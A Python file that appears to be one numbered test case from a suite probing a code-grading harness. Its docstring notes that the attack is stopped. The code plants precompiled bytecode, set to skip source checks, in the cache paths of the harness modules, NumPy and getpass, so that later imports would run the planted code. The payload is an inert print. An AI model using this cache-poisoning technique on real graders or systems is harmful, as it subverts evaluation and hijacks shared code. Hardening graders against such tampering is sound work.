"""A32: leave byte code of the harness and of NumPy where the trial import compiles

Stopped by: what the trial leaves is loaded only by forks that run the submission anyway, never by the session.
"""

import importlib.util
import os
import py_compile

SOURCE = "print('GOT imported')\n"
PLACES = [
    "/opt/coursehub/gpu_worker/harness/casework.py",
    "/opt/coursehub/gpu_worker/harness/session.py",
    "/opt/coursehub/gpu_worker/protocol.py",
    "/opt/site/numpy/testing/__init__.py",
    "/opt/python/lib/python3.11/getpass.py",
]

for place in PLACES:
    try:
        target = importlib.util.cache_from_source(place)
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open("/tmp/source.py", "w") as file:
            file.write(SOURCE)
        py_compile.compile(
            "/tmp/source.py",
            target,
            place,
            doraise=True,
            invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
        )
    except OSError:
        continue


def attacked(numbers):
    return numbers
